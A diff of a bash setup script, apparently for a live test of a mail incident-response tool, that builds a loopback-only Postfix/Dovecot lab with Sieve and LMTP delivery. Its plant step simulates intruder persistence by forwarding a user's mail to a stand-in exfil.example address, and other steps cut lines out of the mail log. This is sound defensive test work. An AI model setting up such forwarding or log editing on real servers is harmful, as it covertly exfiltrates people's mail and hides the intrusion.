@@ -11,14 +11,25 @@
 # started are stopped. Packages it installed stay installed and are listed. Mail cannot leave:
 # Postfix listens on 127.0.0.1 only and every non-local domain goes to the `discard`
 # transport. The attack (tests/live/attack.py) writes its ground truth to OUT/truth.json.
+#
+# Local mail is delivered the way Debian documents it for Dovecot, in two phases: first
+# Postfix local(8) hands each mailbox to `dovecot-lda` (mailbox_command) with the Sieve plugin;
+# after the cut slice, `scenario.sh lmtp OUT` (called by attack.py) switches Postfix to
+# Dovecot's LMTP server (mailbox_transport = lmtp:unix:private/dovecot-lmtp, Sieve too) and
+# reloads. Aliases and ~/.forward stay with local(8) in both phases. Users kate, liam and nora
+# only receive mail (bursts of it); kate and liam have Sieve scripts (fileinto, vacation).
 set -euo pipefail
 here=$(cd "$(dirname "$0")" && pwd)
 cmd=${1:?up or down}
 OUT=$(mkdir -p "${2:?output folder}" && cd "$2" && pwd)
 STATE="$OUT/state"
 CHANGES="$OUT/changes.txt"
-PACKAGES=(postfix dovecot-core dovecot-imapd swaks rsyslog)
-USERS=(alice bob carol dave erin frank grace)
+PACKAGES=(postfix dovecot-core dovecot-imapd dovecot-lmtpd dovecot-sieve swaks rsyslog)
+# RECEIVERS only receive mail (bursts from an outside list server and correspondents); the
+# attack never touches them (attack.py's RECEIVERS).
+RECEIVERS=(kate liam nora)
+USERS=(alice bob carol dave erin frank grace "${RECEIVERS[@]}")
+LDA='/usr/lib/dovecot/dovecot-lda -f "$SENDER" -a "$RECIPIENT"'
 DOMAIN=lab.example
 
 note() { echo "$*" >> "$CHANGES"; }
@@ -54,7 +65,7 @@ up() {
   : > "$CHANGES"
   mkdir -p "$STATE"
   # 1. Packages (idempotent, non-interactive). Installed ones stay; they are listed.
-  local missing=()
+  local missing=() home p u
   # Installed means "install ok installed": a removed package whose configuration stayed is
   # known to dpkg but has no programs.
   for p in "${PACKAGES[@]}"; do
@@ -68,6 +79,8 @@ up() {
     note "installed packages (left installed): ${missing[*]}"
   fi
   { echo "postfix $(postconf -d -h mail_version)"; echo "dovecot $(dovecot --version)";
+    echo "pigeonhole (dovecot-sieve) $(dpkg-query -W -f '${Version}' dovecot-sieve)";
+    echo "dovecot-lmtpd $(dpkg-query -W -f '${Version}' dovecot-lmtpd)";
     echo "rsyslog $(rsyslogd -v | head -1)"; echo "swaks $(dpkg-query -W -f '${Version}' swaks)";
   } > "$OUT/versions.txt"
 
@@ -86,8 +99,33 @@ up() {
       useradd -m -s /bin/bash "$u"
       note "created user: $u (removed by down, with /home/$u and /var/mail/$u)"
       echo "$u" >> "$STATE/users"
+    else
+      # An account that was there before: what Dovecot leaves in its home (IMAP indexes and
+      # folders under ~/mail, the compiled Sieve script, the duplicate database of vacation
+      # replies) is removed by down. The homes of the users created here go with them.
+      home=$(getent passwd "$u" | cut -d: -f6)
+      for p in "$home/mail" "$home/.dovecot.svbin" "$home/.dovecot.lda-dupes" \
+               "$home/.dovecot.lda-dupes.lock"; do
+        keep "$p"
+      done
+    fi
+    # dovecot-lda runs as the user and cannot create a file in /var/mail (root:mail 2775;
+    # Postfix's local(8) could, as root): the spool file is made beforehand, owned by the user.
+    if [ ! -e "/var/mail/$u" ]; then
+      keep "/var/mail/$u"
+      install -m 660 -o "$u" -g mail /dev/null "/var/mail/$u"
     fi
   done
+  # The receivers' Sieve scripts, as ManageSieve or a webmail leaves them: the script under
+  # ~/sieve and ~/.dovecot.sieve a link to the active one. kate files a mailing list into its
+  # folder; liam is back from a holiday and his vacation auto-reply is still on; nora has none.
+  sieve_script kate lists 'require ["fileinto", "mailbox"];
+if header :contains "List-Id" "news.newsletter.example" {
+  fileinto :create "Lists";
+}'
+  sieve_script liam holiday 'require ["vacation"];
+vacation :days 7 :subject "Away until Monday"
+  "I am on holiday until Monday and will answer your message when I am back.";'
   echo "$DOMAIN" > /etc/mailname
   : > /etc/postfix/main.cf
   postconf -e \
@@ -103,7 +141,8 @@ up() {
     'smtp_tls_security_level = none' 'smtpd_tls_security_level = none' 'smtpd_peername_lookup = no' \
     'maillog_file =' 'mail_owner = postfix' 'setgid_group = postdrop' \
     'queue_directory = /var/spool/postfix' 'command_directory = /usr/sbin' \
-    'daemon_directory = /usr/lib/postfix/sbin' 'data_directory = /var/lib/postfix'
+    'daemon_directory = /usr/lib/postfix/sbin' 'data_directory = /var/lib/postfix' \
+    "mailbox_command = $LDA"
   postconf -M "submission/inet=submission inet n - n - - smtpd"
   postconf -P "submission/inet/syslog_name=postfix/submission" \
               "submission/inet/smtpd_relay_restrictions=permit_sasl_authenticated,reject"
@@ -113,8 +152,9 @@ up() {
 
   rm -rf /etc/dovecot && mkdir -p /etc/dovecot
   cat > /etc/dovecot/dovecot.conf <<EOF
-# mailir live test: IMAP on loopback, users from a password file, SASL for Postfix.
-protocols = imap
+# mailir live test: IMAP on loopback, users from a password file, SASL for Postfix; local
+# delivery by dovecot-lda (Postfix mailbox_command), later by LMTP, both with Sieve.
+protocols = imap lmtp
 listen = 127.0.0.1
 ssl = no
 disable_plaintext_auth = no
@@ -122,8 +162,36 @@ auth_mechanisms = plain login
 auth_failure_delay = 0
 mail_location = mbox:~/mail:INBOX=/var/mail/%u
 mail_privileged_group = mail
+# dovecot-lda runs as the recipient, who may not create dotlocks in /var/mail.
+mbox_write_locks = fcntl
 log_path = syslog
 syslog_facility = mail
+hostname = mx.$DOMAIN
+postmaster_address = postmaster@$DOMAIN
+protocol lda {
+  mail_plugins = \$mail_plugins sieve
+}
+protocol lmtp {
+  mail_plugins = \$mail_plugins sieve
+  # Postfix's local(8) hands LMTP the full address; the system users have no domain.
+  auth_username_format = %Ln
+}
+plugin {
+  sieve = file:~/sieve;active=~/.dovecot.sieve
+}
+service lmtp {
+  unix_listener /var/spool/postfix/private/dovecot-lmtp {
+    mode = 0600
+    user = postfix
+    group = postfix
+  }
+}
+# dovecot-lda runs as the recipient and reports to the stats writer.
+service stats {
+  unix_listener stats-writer {
+    mode = 0666
+  }
+}
 passdb {
   driver = passwd-file
   args = scheme=PLAIN username_format=%n /etc/dovecot/users.passwd
@@ -148,10 +216,14 @@ EOF
   # 3. Start syslog, Dovecot, Postfix (no systemd here: by hand).
   rm -f /var/log/mail.log /var/log/mail.log.1
   # Daemons get no inherited stdio: whoever runs this script waits for its output to end.
-  if ! pgrep -x rsyslogd >/dev/null; then
+  # The system's rsyslogd (Debian's configuration, pid in /run/rsyslogd.pid) is the one that
+  # writes /var/log/mail.log; another rsyslogd on the machine (with its own configuration and
+  # pid file) is someone else's and is left alone. Signals go to that pid only.
+  if ! syslog_pid >/dev/null; then
     rsyslogd </dev/null >/dev/null 2>&1
-    note "started: rsyslogd (stopped by down)"
-    echo started > "$STATE/rsyslogd"
+    for _ in $(seq 50); do syslog_pid >/dev/null && break; sleep 0.1; done
+    note "started: rsyslogd (pid $(syslog_pid); stopped by down)"
+    syslog_pid > "$STATE/rsyslogd"
   fi
   for _ in $(seq 50); do [ -S /dev/log ] && break; sleep 0.1; done
   dovecot </dev/null >/dev/null 2>&1
@@ -171,7 +243,38 @@ EOF
   cp /var/log/mail.log /var/log/mail.log.1 "$OUT/" 2>/dev/null || true
 }
 
+# The pid of the running system rsyslogd (the one with /run/rsyslogd.pid); fails when none.
+syslog_pid() {
+  local pid
+  pid=$(cat /run/rsyslogd.pid 2>/dev/null) || return 1
+  [ -n "$pid" ] && [ "$(cat "/proc/$pid/comm" 2>/dev/null)" = rsyslogd ] || return 1
+  echo "$pid"
+}
+
+# A receiver's Sieve script: ~USER/sieve/NAME.sieve holding TEXT, ~USER/.dovecot.sieve
+# linking to it (the active script).
+sieve_script() {
+  local u=$1 name=$2 text=$3 home
+  home=$(getent passwd "$u" | cut -d: -f6)
+  keep "$home/sieve"
+  keep "$home/.dovecot.sieve"
+  rm -rf "$home/sieve" "$home/.dovecot.sieve"
+  mkdir -p "$home/sieve"
+  printf '%s\n' "$text" > "$home/sieve/$name.sieve"
+  ln -s "sieve/$name.sieve" "$home/.dovecot.sieve"
+  chown -R "$u:" "$home/sieve"
+  chown -h "$u:" "$home/.dovecot.sieve"
+}
+
 # Root-side steps attack.py calls at its moments.
+
+# The second delivery phase: Postfix hands mailboxes to Dovecot's LMTP server (Debian's
+# Dovecot LMTP setup); local(8) still expands aliases and ~/.forward first.
+lmtp() {
+  postconf -X mailbox_command
+  postconf -e 'mailbox_transport = lmtp:unix:private/dovecot-lmtp'
+  postfix reload </dev/null >/dev/null 2>&1
+}
 plant() {
   # The intruder's persistence, the way one would leave it. Lines are 1-based.
   printf 'frank@%s frank, frank.copy@exfil.example\n' "$DOMAIN" > /etc/postfix/virtual
@@ -213,21 +316,26 @@ open(path + ".new", "wb").write(b"\n".join(keep))
 EOF
   mv /var/log/mail.log.new /var/log/mail.log
   chmod 640 /var/log/mail.log
-  pkill -HUP -x rsyslogd
+  kill -HUP "$(syslog_pid)"
 }
 
 # logrotate's way: move the live file aside, have the daemon reopen a new one.
 rotate() {
   mv /var/log/mail.log /var/log/mail.log.1
-  pkill -HUP -x rsyslogd
+  kill -HUP "$(syslog_pid)"
 }
 
 down() {
   log "restoring the machine"
   postfix stop >/dev/null 2>&1 || true
   postsuper -d ALL >/dev/null 2>&1 || true
-  doveadm stop >/dev/null 2>&1 || pkill -x dovecot 2>/dev/null || true
-  [ -e "$STATE/rsyslogd" ] && pkill -x rsyslogd 2>/dev/null || true
+  doveadm stop >/dev/null 2>&1 \
+    || { [ -s /run/dovecot/master.pid ] && kill "$(cat /run/dovecot/master.pid)" 2>/dev/null; } || true
+  # Only the rsyslogd this script started, by its pid (read back from its pid file: a stale
+  # state file must not name someone else's process).
+  if [ -s "$STATE/rsyslogd" ] && [ "$(syslog_pid)" = "$(cat "$STATE/rsyslogd")" ]; then
+    kill "$(cat "$STATE/rsyslogd")" 2>/dev/null || true
+  fi
   sleep 0.5
   if [ -e "$STATE/users" ]; then
     while read -r u; do userdel -r "$u" >/dev/null 2>&1 || true; rm -f "/var/mail/$u"; done < "$STATE/users"
@@ -242,5 +350,6 @@ case $cmd in
   plant) plant ;;
   cut) cut_slice "$3" "$4" ;;
   rotate) rotate ;;
+  lmtp) lmtp ;;
   *) echo "unknown command $cmd" >&2; exit 2 ;;
 esac
